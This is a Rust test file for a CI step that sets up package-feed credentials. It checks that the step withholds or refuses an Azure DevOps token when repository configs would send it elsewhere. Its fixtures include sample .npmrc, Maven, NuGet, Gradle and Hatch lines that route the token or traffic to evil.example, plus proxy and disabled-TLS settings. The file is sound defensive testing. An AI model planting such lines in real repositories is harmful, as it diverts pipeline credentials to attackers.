//! What of a repository would lead a credential to somebody else, and what the step does about it.

use std::collections::BTreeSet;

use super::tests::*;
use super::*;
use crate::reach::Standing;
use crate::tools::TOOLS;
use crate::tools::reading::{Hidden, Origin, Unparsable};
use crate::tools::testing::{Disk, host, names};

const OUR_CONFIG: &str = "<configuration><packageSources><add key='ours' \
    value='https://pkgs.dev.azure.com/contoso/_packaging/f/nuget/v3/index.json'/></packageSources></configuration>";
const OURS: &str = "<project><repositories><repository><id>ours</id><url>https://pkgs.dev.azure.com/contoso/_packaging/f/maven/v1</url>\
    </repository></repositories></project>";
#[test]
fn a_repository_that_would_send_the_token_elsewhere_stops_the_step() {
    let evil = "https://evil.example/";
    let nuget = |sections: &str| format!("<configuration>{sections}</configuration>");
    let source = |key: &str, url: &str| format!("<packageSources><add key='{key}' value='{url}'/></packageSources>");
    let secret = "<packageSourceCredentials><z><add key='ClearTextPassword' value='%ADO_ENTRA_TOKEN%'/></z></packageSourceCredentials>";
    let server = format!(
        "<settings><servers><server><id>z</id><configuration><httpHeaders><property><value>${{env.ADO_ENTRA_TOKEN}}</value></property>\
         </httpHeaders></configuration></server></servers><mirrors><mirror><id>z</id><url>{evil}</url></mirror></mirrors></settings>"
    );
    for (path, text, says) in [
        (".npmrc", "//evil.example/npm/:_authToken=${ADO_ENTRA_TOKEN}".to_owned(), ".npmrc line 2"),
        (".npmrc", "_auth=${ado_entra_token}".to_owned(), ".npmrc line 2"),
        (".npmrc", "registry=https://evil.example/${ADO_ENTRA_TOKEN}/".to_owned(), "evil.example"),
        ("pom.xml", pom("z", "https://evil.example/${env.ADO_ENTRA_TOKEN}/"), "evil.example"),
        ("vendor/pom.xml", pom("z", "https://${env.ADO_ENTRA_TOKEN}.evil.example/"), "vendor/pom.xml"),
        ("ci-settings.xml", server, "evil.example"),
        ("nuget.config", nuget(&source("z", "https://evil.example/%ADO_ENTRA_TOKEN%/")), "evil.example"),
        ("nuget.config", nuget(&format!("{}{secret}", source("Z", evil))), "nuget.config"),
        (
            "a.csproj",
            "<Project><RestoreSources>https://evil.example/$(ADO_ENTRA_TOKEN)/</RestoreSources></Project>".to_owned(),
            "a.csproj",
        ),
    ] {
        let token = "eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9";
        for environment in [&[][..], &[("ADO_ENTRA_TOKEN", token)]] {
            let npm = format!("registry=https://pkgs.dev.azure.com/contoso/_packaging/g/npm/registry/\n{text}");
            let text = if path == ".npmrc" { &npm } else { &text };
            let files = [(path, text.as_str()), ("c/pom.xml", OURS), ("c/nuget.config", OUR_CONFIG)];
            let error = Case { files: &files, environment, ..Case::default() }.result().unwrap_err();
            let words = format!("{error} {}", crate::diagnosis::Explain::remedy(&error));
            assert!(
                matches!(error, PlanError::Leak { .. })
                    && !words.contains(token)
                    && (words.contains(says) || !environment.is_empty()),
                "{words}"
            );
        }
    }
}

#[test]
fn a_repository_may_send_the_token_to_a_permitted_organization() {
    let maven = "https://pkgs.dev.azure.com/contoso/_packaging/f/maven/v1";
    let nuget = "https://pkgs.dev.azure.com/contoso/_packaging/f/nuget/v3/index.json";
    let npmrc =
        format!("{NPMRC}//pkgs.dev.azure.com/contoso/_packaging/f/npm/registry/:_authToken=${{ADO_ENTRA_TOKEN}}\n");
    let settings = format!(
        "<settings><servers><server><id>f</id><password>${{env.ADO_ENTRA_TOKEN}}</password></server></servers>\
         <mirrors><mirror><id>f</id><url>{maven}</url></mirror></mirrors></settings>"
    );
    let config = format!(
        "<configuration><packageSources><add key='f' value='{nuget}'/></packageSources><packageSourceCredentials><f>\
         <add key='ClearTextPassword' value='%ADO_ENTRA_TOKEN%'/></f></packageSourceCredentials></configuration>"
    );
    let files = [(".npmrc", npmrc.as_str()), ("ci-settings.xml", &settings), ("nuget.config", &config)];
    assert_eq!(tools(&Case { files: &files, ..Case::default() }.outcome()), ["npm", "maven", "nuget", "git"]);
}

#[test]
fn a_variable_of_a_client_that_holds_the_token_is_guarded_in_every_file() {
    for text in ["//evil.example/:_authToken=${GIT_CONFIG_VALUE_1}", "[x]\nuser-agent=\"${GIT_CONFIG_VALUE_1}\""] {
        let text = format!("{NPMRC}{text}\n");
        let files = [(".npmrc", text.as_str())];
        let error = Case { headers: true, files: &files, ..Case::default() }.result().unwrap_err();
        assert!(matches!(error, PlanError::Leak { .. }), "{error}");
        // With the helper there is nothing in that variable to send.
        assert!(Case { files: &files, ..Case::default() }.result().is_ok());
    }
}

#[test]
fn hatch_sends_condas_variable_nowhere_else() {
    const ALIAS: &str =
        "channel_alias: https://t:${ARTIFACTS_CONDA_TOKEN}@pkgs.dev.azure.com/contoso/_packaging/f/Conda/repo/";
    let index = |reference: &str, host: &str| {
        format!("PIP_EXTRA_INDEX_URL = 'https://t:{reference}@{host}/contoso/_packaging/f/pypi/simple/'\n")
    };
    let long = format!("{{env:{{env:{}:ARTIFACTS_CONDA_}}TOKEN}}", "X".repeat(600));
    for reference in [
        "{env:ARTIFACTS_CONDA_TOKEN}",
        "{env:ARTIFACTS_CONDA_{env:X:TOKEN}}",
        "{env:ARTIFACTS_CONDA_{env_name}}",
        "{env:ARTIFACTS_{matrix:x}_TOKEN}",
        &long,
    ] {
        let set = index(reference, "evil.example");
        for (path, text) in [
            ("hatch.toml", format!("[envs.x.env-vars]\n{set}")),
            ("pyproject.toml", format!("[tool.hatch.envs.x.env-vars]\n{set}")),
            ("pyproject.toml", format!("[project]\ndependencies = ['a @ https://evil.example/{reference}/a.whl']\n")),
        ] {
            let error = Case { files: &[(".condarc", ALIAS), (path, &text)], ..Case::default() }.result().unwrap_err();
            assert!(
                matches!(error, PlanError::Leak { .. }) && error.to_string().contains("ARTIFACTS_CONDA_TOKEN"),
                "{error}"
            );
        }
    }
    let sent = format!("[envs.x.env-vars]\n{}", index("{env:ARTIFACTS_CONDA_TOKEN}", "evil.example"));
    let many = format!("{sent}{}", "#$A\n".repeat(100_001));
    let error = Case { files: &[(".condarc", ALIAS), ("hatch.toml", &many)], ..Case::default() }.result().unwrap_err();
    assert!(error.to_string().starts_with("hatch.toml may have"), "{error}");
    for reference in ["{env:ADO_ENTRA_TOKEN}", "{env:A_{matrix:x}}"] {
        let ours = format!("[envs.x.env-vars]\n{}", index(reference, "pkgs.dev.azure.com"));
        assert!(Case { files: &[(".condarc", ALIAS), ("hatch.toml", &ours)], ..Case::default() }.result().is_ok());
    }
}

#[test]
fn a_file_that_nobody_has_searched_stops_the_step_where_every_later_step_has_the_token() {
    let host = host(&[]);
    let reach = Reach { permitted: vec![permitted("contoso", Standing::Owned)], ..Reach::default() };
    let choice = Choice { tools: TOOLS.to_vec(), named: None };
    let wanted = Wanted { choice: &choice, reach: &reach, feeds: &[], token_variable: "ADO_ENTRA_TOKEN" };
    let conda = (
        ".condarc",
        "channel_alias: https://t:${ARTIFACTS_CONDA_TOKEN}@pkgs.dev.azure.com/contoso/_packaging/f/Conda/repo/",
    );
    let npm = (".npmrc", "registry=https://pkgs.dev.azure.com/contoso/_packaging/f/npm/registry/");
    for (file, hides, stops) in
        [(conda, Hidden::Everything, true), (conda, Hidden::Names, false), (npm, Hidden::Everything, false)]
    {
        let mut sources = sources(&[file], &host);
        let pip = sources.iter_mut().find(|found| found.tool.id().name == "pip").unwrap();
        let (file, reason) = ("hatch.toml".to_owned(), "it is large".to_owned());
        pip.unread.push(Unparsable { file, reason, hides, origin: Origin::Workspace });
        let planned = plan(&wanted, &sources, &host, &Disk::default(), &names());
        assert_eq!(matches!(planned, Err(PlanError::Unsearched { .. })), stops, "{hides:?}");
    }
}

#[test]
fn a_setting_that_leads_npm_elsewhere_is_named_with_its_line_and_what_to_do() {
    for (setting, words) in [
        ("proxy=http://evil.example:8080", ["sends the traffic through a proxy", "HTTPS_PROXY"]),
        ("strict-ssl=false", ["switches off the check of certificates", "NODE_EXTRA_CA_CERTS"]),
    ] {
        let text = format!("{NPMRC}{setting}\n");
        let said = warnings(&Case { files: &[(".npmrc", &text)], ..Case::default() }.outcome());
        let [said] = said.as_slice() else { panic!("{said:?}") };
        assert!(said.starts_with("npm: .npmrc line 2 ") && words.iter().all(|word| said.contains(word)), "{said}");
    }
}

#[test]
fn settings_of_one_file_with_one_remedy_are_told_in_one_line() {
    let feed = "feed=https://pkgs.dev.azure.com/contoso/_packaging/f/maven/v1\n";
    let text = format!(
        "{feed}systemProp.https.proxyHost=a\nsystemProp.https.proxyHost=b\norg.gradle.java.home=jdk\norg.gradle.jvmargs=-javaagent:a"
    );
    let many = "systemProp.https.proxyHost=a\n".repeat(50);
    let files = [("build.gradle", feed), ("gradle.properties", text.as_str()), ("b/gradle.properties", &many)];
    let proxy = "sends Gradle's traffic through a proxy (systemProp.https.proxyHost)";
    let ends = "so gradle gets no token; remove that setting, or let the pipeline set it in a variable";
    let too = (2..9).map(|line| format!(", line {line} too")).collect::<Vec<_>>().concat();
    assert_eq!(
        warnings(&Case { files: &files, ..Case::default() }.outcome()),
        [
            format!(
                "gradle: gradle.properties line 2 {proxy}, line 3 too, line 4 sets the Java of Gradle (org.gradle.java.home), line 5 \
                 loads code into Gradle (-javaagent:a), {ends}"
            ),
            format!("gradle: b/gradle.properties line 1 {proxy}{too}, and others, {ends}"),
        ]
    );
}

#[test]
fn of_requirements_uv_speaks_only_where_the_user_names_it() {
    let files = [("requirements.txt", "-i https://pkgs.dev.azure.com/contoso/_packaging/f/pypi/simple/\n")];
    for (named, count) in [(&[][..], 0), (&["pip"], 0), (&["uv"], 1), (&["pip", "uv"], 1)] {
        let said = warnings(&Case { files: &files, named, ..Case::default() }.outcome());
        assert_eq!(said.iter().filter(|said| said.starts_with("uv: ")).count(), count, "{named:?}: {said:?}");
    }
}

#[test]
fn an_exposed_address_takes_npms_credentials_away_and_no_others() {
    for exposed in [
        "http://pkgs.dev.azure.com/contoso/_packaging/f/npm/registry/",
        "https://pkgs.dev.azure.com:444/contoso/_packaging/f/npm/registry/",
        "http://contoso.pkgs.visualstudio.com/_packaging/f/npm/registry/",
    ] {
        let rc = format!("{NPMRC}@s:registry={exposed}\n");
        let lock = format!("{{\"resolved\": \"{exposed}demo/-/demo-1.0.0.tgz\"}}");
        for files in [
            &[(".npmrc", rc.as_str())][..],
            &[(".npmrc", NPMRC), ("package-lock.json", &lock)],
            &[(".npmrc", NPMRC), ("vendor/x/yarn.lock", &lock)],
            &[(".npmrc", NPMRC), ("package.json", &lock)],
        ] {
            let outcome = Case { files, ..Case::default() }.outcome();
            assert_eq!(tools(&outcome), ["git"], "{files:?}");
            let said = warnings(&outcome);
            assert!(said.len() == 1 && said[0].contains(files.last().unwrap().0), "{said:?}");
        }
    }
    let other = format!("{NPMRC}@s:registry=http://pkgs.dev.azure.com/fabrikam/_packaging/f/npm/registry/\n");
    assert_eq!(tools(&Case { files: &[(".npmrc", &other)], ..Case::default() }.outcome()), ["npm", "git"]);
}

#[test]
fn settings_that_lead_the_traffic_elsewhere_take_npms_credentials_away() {
    for (path, setting) in [
        (".npmrc", "https-proxy=http://evil.example:8099"),
        (".npmrc", "strict-ssl=false"),
        ("web/.npmrc", "cafile=./evil.pem"),
        ("vendor/x/.npmrc", "ca=\"-----BEGIN\""),
        (".yarnrc", "https-proxy \"http://evil.example/\""),
        ("pnpm-workspace.yaml", "strictSsl: false"),
    ] {
        let files = [("a/.npmrc", NPMRC), (path, setting)];
        let outcome = Case { files: &files, ..Case::default() }.outcome();
        assert_eq!(tools(&outcome), ["git"], "{setting}");
        let said = warnings(&outcome);
        assert!(said.len() == 1 && said[0].contains(&format!("{path} line 1")), "{said:?}");
    }
    let harmless = [("a/.npmrc", NPMRC), (".npmrc", "strict-ssl=true\nproxy=null\nfund=false\n")];
    assert_eq!(tools(&Case { files: &harmless, ..Case::default() }.outcome()), ["npm", "git"]);
}

#[test]
fn a_feed_over_http_gets_a_warning_and_no_token_whatever_the_tool() {
    const FEED: &str = "//pkgs.dev.azure.com/contoso/_packaging/f";
    let row = |path, before: &str, behind: &str, ends: &str| {
        [("https:", true), ("http:", false)]
            .map(|(scheme, served)| (path, format!("{before}{scheme}{FEED}{behind}{ends}"), served))
    };
    let rows = [
        row(".npmrc", "registry=", "/npm/registry/", "\n"),
        row(
            "pom.xml",
            "<project><repositories><repository><id>f</id><url>",
            "/maven/v1",
            "</url></repository></repositories></project>",
        ),
        row(
            "nuget.config",
            "<configuration><packageSources><add key='f' value='",
            "/nuget/v3/index.json",
            "'/></packageSources></configuration>",
        ),
        row(".cargo/config.toml", "[registries.f]\nindex = 'sparse+", "/Cargo/index/", "'\n"),
    ];
    for (path, text, served) in rows.into_iter().flatten() {
        let outcome = Case { files: &[(path, &text)], ..Case::default() }.outcome();
        let said = warnings(&outcome).iter().any(|warning| warning.contains("contoso/f over http"));
        assert_eq!(
            (said, tools(&outcome).len()),
            (!served, if served { 2 } else { 1 }),
            "{path}: {:?}",
            warnings(&outcome)
        );
    }
}

/// A client that asks for any address needs no feed to be named.
#[test]
fn a_client_that_asks_is_not_set_up_where_the_repository_may_lead_it_elsewhere() {
    let host = host(&[]);
    let feed = "maven { url 'https://pkgs.dev.azure.com/contoso/_packaging/f/maven/v1' }";
    let together = "url \"https://pkgs.dev.azure.com/${org}/_packaging/f/maven/v1\"";
    let peril = "systemProp.https.proxyHost=evil.example";
    let [root, beside, users] =
        ["gradle.properties", "vendor/gradle.properties", "/home/build/.gradle/gradle.properties"];
    let hidden = |origin| Unparsable {
        file: root.to_owned(),
        reason: "it is large".to_owned(),
        hides: Hidden::Everything,
        origin,
    };
    let led = "gradle.properties line 1 sends Gradle's traffic through a proxy (systemProp.https.proxyHost), so gradle gets no token";
    for (named, build, properties, unread, is_set_up, said) in [
        (None, feed, root, None, false, led),
        (None, together, root, None, false, led),
        (Some("gradle"), "", root, None, false, led),
        (Some("gradle"), "", beside, None, false, led),
        (None, feed, users, None, true, ""),
        (Some("gradle"), "", users, None, true, ""),
        (None, feed, users, Some(Origin::Workspace), false, "no feed gets a token"),
        (Some("gradle"), "", users, Some(Origin::Beside), false, "no feed gets a token"),
        (None, "", root, None, false, ""),
    ] {
        let mut sources = sources(&[("build.gradle", build), (properties, peril)], &host);
        let gradle = sources.iter_mut().find(|found| found.tool.id().name == "gradle").unwrap();
        gradle.unread.extend(unread.map(hidden));
        let choice = Choice { tools: TOOLS.to_vec(), named: named.map(|name| BTreeSet::from([name])) };
        let reach = Reach { permitted: vec![permitted("contoso", Standing::Owned)], ..Reach::default() };
        let wanted = Wanted { choice: &choice, reach: &reach, feeds: &[], token_variable: "ADO_ENTRA_TOKEN" };
        let plan = plan(&wanted, &sources, &host, &Disk::default(), &names()).unwrap();
        let row = format!("{named:?} {build} {properties} {unread:?}: {:?}", warnings(&plan));
        assert_eq!(plan.deposits.iter().any(|one| one.client == Dialect::Gradle), is_set_up, "{row}");
        assert_eq!(plan.served.iter().any(|served| served.tool == "gradle"), is_set_up, "{row}");
        assert_eq!(
            warnings(&plan).iter().filter(|warning| warning.starts_with("gradle: ")).count(),
            usize::from(!said.is_empty()),
            "{row}"
        );
        assert!(said.is_empty() || warnings(&plan).iter().any(|warning| warning.contains(said)), "{row}");
    }
}
